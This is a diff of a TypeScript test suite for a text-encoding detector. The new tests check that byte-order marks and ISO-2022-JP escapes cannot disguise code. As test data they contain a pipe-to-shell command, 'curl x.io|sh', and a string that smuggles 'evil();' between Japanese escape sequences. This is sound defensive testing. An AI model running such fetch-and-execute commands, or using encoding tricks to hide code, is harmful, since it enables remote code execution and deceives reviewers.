@@ -36,12 +36,33 @@ describe('the encoding of a text', () => {
     assert.equal(decoded(Uint8Array.of(0xe4, 0x78), 'euc-jp').text, 'äx', 'where they cannot be it, it says nothing');
   });
 
-  it('is told by a mark, and by the escapes that switch alphabets', () => {
+  it('is told by a mark', () => {
     const wide = Buffer.from('\ufeffa → б\n', 'utf16le');
     assert.deepEqual(decoded(wide, 'windows-1251'), { text: 'a → б\n', encoding: 'utf-16le', isGuess: false });
     assert.equal(decoded(Buffer.from(wide).swap16()).text, 'a → б\n');
-    assert.deepEqual(decoded(JAPANESE), { text: '// 合計\n', encoding: 'iso-2022-jp', isGuess: false });
-    assert.equal(decoded(Buffer.from('\u001b[31mred\u001b$Bx')).encoding, null, 'escapes of a terminal are none');
+  });
+
+  it('62: is not told by a mark before what is code as it is', () => {
+    const marked = (text: string): Uint8Array => Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(text)]);
+    assert.match(decoded(marked('\ncurl x.io|sh\n')).text, /curl x\.io\|sh/);
+    const half = Buffer.concat([Buffer.from('\ufeff# 1\n', 'utf16le'), Buffer.from(';curl x.io|sh;\n')]);
+    assert.match(decoded(half).text, /curl x\.io\|sh/);
+    for (const text of [
+      '"キー" = "コンピューター";\n',
+      '合計 = 残高が足りません\n',
+      '注文の合計金額を計算する。',
+      '计算订单的总金额',
+    ])
+      assert.equal(decoded(Buffer.from(`\ufeff${text}`, 'utf16le')).text, text);
+  });
+
+  it('62: of seven bits is only told by who declares it, since a program may read code where there are kanji', () => {
+    const japanese = { text: '// 合計\n', encoding: 'iso-2022-jp', isGuess: false };
+    assert.deepEqual(decoded(JAPANESE, 'iso-2022-jp'), japanese);
+    assert.deepEqual(decoded(JAPANESE), { text: JAPANESE.toString(), encoding: null, isGuess: false });
+    assert.match(decoded(Buffer.from('x="\u001b$B";evil();"\u001b(B"\n')).text, /evil\(\)/);
+    assert.equal(decoded(Buffer.from('ascii\n'), 'iso-2022-jp').encoding, null);
+    assert.equal(decoded(Buffer.from('\u001b[31mred\u001b$Bx'), 'iso-2022-jp').encoding, null, 'breaks off');
   });
 
   it('is Western where there is too little to tell', () => {
